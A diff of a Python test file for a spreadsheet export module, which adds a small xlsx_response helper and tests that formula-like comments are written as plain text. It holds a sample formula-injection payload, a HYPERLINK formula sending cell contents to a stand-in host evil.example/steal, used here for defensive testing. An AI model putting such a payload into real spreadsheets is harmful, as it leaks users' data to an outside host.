@@ -8,9 +8,15 @@ import io
 from openpyxl import load_workbook
 
 from sheyin.common.excel import csv_bytes, put
-from sheyin.common.listing import Column, xlsx_response
+from sheyin.common.exports import _xlsx_file
+from sheyin.common.listing import Column, rows_of
 
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&B2&C2,"查看详情")'
+
+
+def xlsx_response(filename: str, title: str, columns: list[Column], rows: list[str]):  # type: ignore[no-untyped-def]
+    """The file a list export writes (export_response adds the audit and the job)."""
+    return _xlsx_file(filename, title, columns, rows_of(columns, rows))
 
 
 def test_it_writes_a_formula_like_comment_as_text_not_a_formula() -> None:
